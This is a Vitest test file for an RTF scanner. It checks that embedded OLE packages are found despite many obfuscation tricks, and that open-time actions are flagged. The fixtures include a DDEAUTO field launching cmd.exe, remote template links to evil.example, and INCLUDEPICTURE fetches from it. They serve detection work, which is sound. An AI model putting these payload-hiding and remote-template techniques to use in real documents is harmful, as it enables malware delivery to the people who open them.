import { describe, expect, test } from "vitest";
import { octetsOf } from "../../../src/content/containers/octets.ts";
import { rtf } from "../../../src/content/containers/rtf.ts";
import { plainRtf } from "../../../src/content/containers/rtf-compressed.ts";
import { compound, packaged, u32 } from "./compound-writer.ts";
import { readMembers } from "./read-members.ts";

const EXE = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(62), Buffer.from("program")]);
const text = (value: string): Buffer =>
  value === "" ? u32(0) : Buffer.concat([u32(value.length + 1), Buffer.from(`${value}\0`)]);
/** An OLE 1.0 object. */
const object = (className: string, data: Buffer): Buffer =>
  Buffer.concat([u32(0x501), u32(2), text(className), text(""), text(""), u32(data.length), data]);
const PACKAGE = object("Package", packaged("a.exe", EXE)).toString("hex");
const read = (body: string): ReturnType<typeof readMembers> =>
  readMembers(rtf, Buffer.from(`{\\rtf1 hello${body}}`, "latin1"));

describe("the object is found", () => {
  const cut = (every: number, put: string): string =>
    PACKAGE.replace(new RegExp(`.{${every}}`, "g"), (some) => some + put);
  test.each<[string, string]>([
    ["plainly", PACKAGE],
    ["in capitals", PACKAGE.toUpperCase()],
    ["in lines", cut(64, "\r\n")],
    ["with white space in octets", cut(3, " \t")],
    ["between empty groups", cut(5, "{}")],
    ["between control words with digits", cut(5, "\\abc12 ")],
    ["between groups that are to be ignored", cut(7, "{\\*\\foo 4142}")],
    ["between groups in groups that are to be ignored", cut(40, "{\\*\\foo {41{\\bar 42}}}")],
    ["between letters that are no digits", cut(9, "xyz")],
    ["in groups", cut(50, "").replace(/.{50}/g, "{\\foo $&}")],
    [
      "as \\bin data",
      `\\bin${PACKAGE.length / 2} ${Buffer.from(PACKAGE, "hex").toString("latin1")}`,
    ],
    ["behind a character that is no data", `\\'41${PACKAGE}`],
    ["in an object whose group never ends", `${PACKAGE}{\\*\\x `],
    ["behind the start of another object", `0105{\\*\\objdata ${PACKAGE}}`],
  ])("%s", async (_how, digits) => {
    const found = await read(`{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${digits}}}`);
    const member = found.members.find(({ names }) => names.includes("a.exe"));
    expect(member).toMatchObject({ text: EXE.toString("latin1"), defects: [] });
    expect(found.said).toEqual(["EMBEDDED"]);
  });

  test("as a compound file, with a head or a broken one", async () => {
    const file = compound({ Package: EXE });
    for (const blob of [object("Word.Document.8", file), Buffer.concat([u32(9), u32(77), file])]) {
      const { members } = await read(`{\\*\\objdata ${blob.toString("hex")}}`);
      expect(members).toMatchObject([{ names: [], text: file.toString("latin1") }]);
    }
  });

  test("when the same digits can be read in two ways, in both", async () => {
    const { members } = await read(`{\\*\\objdata ${PACKAGE}{\\x 4d5a}}`);
    expect(members.length).toBeGreaterThan(0);
    const both = await read(`{\\*\\objdata 4d5a{\\x 9000}0300}`);
    expect(both.members.map((member) => member.text)).toEqual(["MZ\x90\0\x03\0", "MZ\x03\0"]);
  });
});

describe("what it does when it is opened", () => {
  test.each<[string, string[]]>([
    ["{\\object\\objautlink}", ["LAUNCH"]],
    ["{\\object\\objemb\\objupdate}", ["LAUNCH"]],
    ["{\\*\\template http://evil.example/a.dotm}", ["EXTERNAL"]],
    ["{\\*\\template \\\\\\\\evil.example\\\\share\\\\a.dotm}", ["EXTERNAL"]],
    ["{\\*\\template {\\u-65432 ?\\u116\\'74tps://evil.example/}}", ["EXTERNAL"]],
    ["{\\*\\template C:\\\\Templates\\\\a.dot}", []],
    ["{\\field{\\*\\fldinst  DDEAUTO c:\\\\cmd.exe x}}", ["LAUNCH"]],
    ['{\\field{\\*\\fldinst {INCLUDEPICTURE "http://evil.example/a.png"}}}', ["EXTERNAL"]],
    ['{\\field{\\*\\fldinst {HYPERLINK "http://good.example/"}}}', []],
    ["{\\fonttbl{\\f0 Arial;}}\\b bold\\b0 \\'e4", []],
  ])("%s", async (body, said) => {
    expect((await read(body)).said).toEqual(said);
  });

  test("a link of the old kind to another place", async () => {
    const link = Buffer.concat([
      u32(0x501),
      u32(1),
      text("Word"),
      text("http://evil.example/"),
      text(""),
    ]);
    const found = await read(`{\\*\\objdata ${link.toString("hex")}}`);
    expect(found.said).toEqual(["EMBEDDED", "EXTERNAL"]);
  });
});

test("ten thousand objects end in a limit", async () => {
  const found = await read("{\\*\\objdata 4d5a}".repeat(10_000));
  expect(found.members).toHaveLength(1_500);
  expect(found.said).toContain("container-too-many-members");
});

test("objects in objects cost no more than the limit", async () => {
  const started = process.cpuUsage();
  const found = await read("{\\*\\objdata 4d5a".repeat(20_000));
  expect(found.said).toContain("container-too-many-members");
  expect(process.cpuUsage(started).user).toBeLessThan(5e6);
});

describe("packed RTF", () => {
  const unpack = (hex: string): string =>
    Buffer.concat([...plainRtf(octetsOf(Buffer.from(hex, "hex")))]).toString("latin1");

  // The examples of MS-OXRTFCP 3.1.
  test.each([
    [
      "2d0000002b0000004c5a4675f1c5c7a703000a00726370673132354232" +
        "0af32068656c090020627705b06c647d0a800fa0",
      "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n",
    ],
    [
      "1a0000001c0000004c5a4675e2d44b51410004205758595a0d6e7d010eb0",
      "{\\rtf1 WXYZWXYZWXYZWXYZWXYZ}",
    ],
  ])("%s", (hex, plain) => {
    expect(unpack(hex)).toBe(plain);
  });

  test("may be plain", () => {
    expect(unpack("1000000004000000" + "4d454c41" + "00000000" + "7b5c7274")).toBe("{\\rt");
  });

  test("without a mark is broken", () => {
    expect(() => unpack("00".repeat(40))).toThrow("no mark");
  });
});
